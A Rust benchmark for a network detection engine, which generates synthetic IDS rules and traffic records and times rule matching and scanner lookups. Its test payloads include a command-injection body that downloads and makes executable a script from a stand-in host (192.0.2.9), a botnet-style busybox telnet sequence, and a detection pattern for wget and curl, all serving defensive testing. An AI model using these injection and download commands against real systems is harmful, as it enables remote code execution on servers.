//! Measures look-ups and rules: `cargo xtask bench enrich`.
//!
//! The rules are made here, as many as the community has and of the same kinds: a URI or a header with a second text,
//! every fourth with a regular expression, some on the payload and on fingerprints. The records are a mix of what arrives:
//! plain requests, exploits, banners, binary protocols, a long body.

use std::fmt::Write as _;
use std::hint::black_box;
use std::net::{IpAddr, Ipv4Addr};
use std::path::Path;
use std::time::{Duration, Instant};

use nix::time::{ClockId, clock_gettime};
use spip_enrich::facts::{Facts, Tls};
use spip_enrich::requests::split;
use spip_enrich::rules::{Builder, Rules, Scratch};
use spip_enrich::{indicators, scanners, starter};

/// As many as the rules that are published for all.
const RULES: u64 = 40_000;
/// Time of each measurement.
const TIME: Duration = Duration::from_secs(3);

/// Numbers that are the same in each run (splitmix64).
struct Numbers(u64);

impl Numbers {
    fn next(&mut self) -> u64 {
        self.0 = self.0.wrapping_add(0x9e37_79b9_7f4a_7c15);
        let mut number = self.0;
        number = (number ^ (number >> 30)).wrapping_mul(0xbf58_476d_1ce4_e5b9);
        number = (number ^ (number >> 27)).wrapping_mul(0x94d0_49bb_1331_11eb);
        number ^ (number >> 31)
    }

    fn below(&mut self, bound: u64) -> u64 {
        self.next() % bound
    }

    fn word(&mut self) -> String {
        const WORDS: [&str; 24] = [
            "admin", "cgi-bin", "login", "index", "upload", "config", "api", "user", "cmd", "exec", "ping", "setup",
            "view", "page", "data", "file", "query", "system", "shell", "portal", "rest", "module", "action", "report",
        ];
        let word = WORDS[self.below(WORDS.len() as u64) as usize];
        if self.below(3) == 0 { format!("{word}{}", self.below(1000)) } else { word.to_owned() }
    }
}

fn rules_text() -> String {
    let mut numbers = Numbers(7);
    let mut text = String::new();
    for sid in 1..=RULES {
        let (first, second, third) = (numbers.word(), numbers.word(), numbers.word());
        let conditions = match numbers.below(8) {
            0 => format!(
                "content:\"{first}|00 {:02x} {:02x}|\"; depth:64; content:\"{second}\"; distance:0;",
                numbers.below(256),
                numbers.below(256)
            ),
            1 => format!("http.user_agent; content:\"{first}{second}/{}\"; nocase;", numbers.below(100)),
            2 => format!(
                "http.method; content:\"POST\"; http.uri; content:\"/{first}/{second}.php\"; http.request_body; content:\"{third}=\"; pcre:\"/{third}=[^&]*(?:wget|curl|\\x60)/i\";"
            ),
            3 => format!(
                "http.uri; content:\"/{first}/{second}\"; nocase; pcre:\"/\\/{first}\\/{second}[a-z0-9]{{4,16}}\\.(?:php|asp|jsp)$/i\";"
            ),
            4 => format!("http.header; content:\"X-{first}-{second}|3a 20|\"; nocase; content:\"{third}\"; within:64;"),
            5 => format!("tls.sni; content:\"{first}-{second}.example\"; endswith;"),
            6 => format!(
                "content:\"/{first}/{second}/{third}\"; http_uri; content:\"id={}\"; http_uri; distance:0;",
                numbers.below(100)
            ),
            _ => format!("http.uri; content:\"/{first}-{second}/{third}?\"; startswith;"),
        };
        let protocol = if conditions.contains("tls.") {
            "tls"
        } else if conditions.contains("http") {
            "http"
        } else {
            "tcp"
        };
        let _ = writeln!(
            text,
            "alert {protocol} $EXTERNAL_NET any -> $HOME_NET any (msg:\"made {sid}\"; flow:established,to_server; {conditions} classtype:web-application-attack; sid:{sid}; rev:1;)"
        );
    }
    text
}

fn payloads() -> Vec<Vec<u8>> {
    let mut numbers = Numbers(11);
    let mut payloads: Vec<Vec<u8>> = Vec::new();
    let agents = [
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 Chrome/120.0 Safari/537.36",
        "curl/8.5.0",
        "Mozilla/5.0 zgrab/0.x",
        "Go-http-client/1.1",
    ];
    for turn in 0..400usize {
        let agent = agents[turn % agents.len()];
        payloads.push(match turn % 10 {
            0..=3 => format!("GET / HTTP/1.1\r\nHost: 198.51.100.7\r\nUser-Agent: {agent}\r\nAccept: */*\r\nAccept-Encoding: gzip\r\nConnection: close\r\n\r\n").into_bytes(),
            4 | 5 => {
                let (first, second, third) = (numbers.word(), numbers.word(), numbers.word());
                format!("POST /{first}/{second}.php?id={turn} HTTP/1.1\r\nHost: 198.51.100.7\r\nUser-Agent: {agent}\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: 60\r\n\r\n{third}=;cd+/tmp;wget+http://192.0.2.9/a.sh;chmod+777+a.sh").into_bytes()
            }
            6 => b"SSH-2.0-Go\r\n".iter().copied().chain((0..600).map(|_| numbers.next() as u8)).collect(),
            7 => (0..200).map(|_| numbers.next() as u8).collect(),
            8 => b"enable\r\nsystem\r\nshell\r\nsh\r\n/bin/busybox ECCHI\r\n".to_vec(),
            _ => {
                let body: String = (0..400).map(|_| numbers.word() + "=1&").collect();
                format!("POST /api/v1/{} HTTP/1.1\r\nHost: a.example\r\nUser-Agent: {agent}\r\nContent-Length: {}\r\n\r\n{body}", numbers.word(), body.len()).into_bytes()
            }
        });
    }
    payloads
}

fn measure(name: &str, mut once: impl FnMut(usize)) -> f64 {
    // Processor time: what other programs do meanwhile changes nothing.
    let clock = || Duration::from(clock_gettime(ClockId::CLOCK_THREAD_CPUTIME_ID).expect("a clock of the thread"));
    let (started, mut count) = (clock(), 0usize);
    while clock() - started < TIME {
        for _ in 0..100 {
            once(count);
            count += 1;
        }
    }
    let nanoseconds = (clock() - started).as_nanos() as f64 / count as f64;
    println!("{name:<44} {nanoseconds:>12.0} ns  {:>12.0} /s", 1e9 / nanoseconds);
    nanoseconds
}

fn rules(name: &str, rules: &Rules, payloads: &[Vec<u8>]) {
    let mut scratch = Scratch::default();
    let mut tags = 0usize;
    let tls = Tls { server_name: Some("www.example.org"), ..Tls::default() };
    measure(name, |turn| {
        let facts = Facts {
            payload: &payloads[turn % payloads.len()],
            tls: (turn % 3 == 0).then(|| tls.clone()),
            ..Facts::default()
        };
        tags += rules.find(&facts, &split(facts.payload), &mut scratch).tags.len();
    });
    black_box(tags);
}

fn main() {
    let payloads = payloads();
    let mean = payloads.iter().map(Vec::len).sum::<usize>() / payloads.len();
    println!("{} different records of {mean} bytes on average, one core\n", payloads.len());

    let mut builder = scanners::Builder::default();
    let list: String =
        (0..50_000u32).map(|n| format!("p{}, {}/28\n", n % 40, Ipv4Addr::from(0x0b00_0000 + n * 64))).collect();
    builder.text(Path::new("list"), &list).expect("ranges");
    let scanners = builder.build();
    let mut numbers = Numbers(3);
    let addresses: Vec<IpAddr> =
        (0..4096).map(|_| Ipv4Addr::from(0x0b00_0000 + numbers.below(3_200_000) as u32).into()).collect();
    measure("scanner among 50,000 ranges", |turn| {
        black_box(scanners.listed(addresses[turn % addresses.len()]));
    });
    measure("indicators", |turn| {
        black_box(indicators::find(&payloads[turn % payloads.len()], false));
    });

    let mut builder = Builder::default();
    builder.text(starter::NAME, starter::RULES).expect("rules");
    let (own, report) = builder.build().expect("a set");
    rules(&format!("starter rules ({})", report.taken), &own, &payloads);

    let text = rules_text();
    let started = Instant::now();
    let mut builder = Builder::default();
    builder.text(starter::NAME, starter::RULES).expect("rules");
    builder.text("made", &text).expect("rules");
    let (many, report) = builder.build().expect("a set");
    let built = started.elapsed();
    rules(&format!("{} rules", report.taken), &many, &payloads);
    println!(
        "\nbuilt in {:.2} s; automata {} MB; {} rules skipped",
        built.as_secs_f64(),
        many.memory() / 1_000_000,
        report.skipped_count()
    );
    println!(
        "memory: {}",
        std::fs::read_to_string("/proc/self/status")
            .unwrap_or_default()
            .lines()
            .find(|line| line.starts_with("VmHWM"))
            .unwrap_or_default()
    );
}
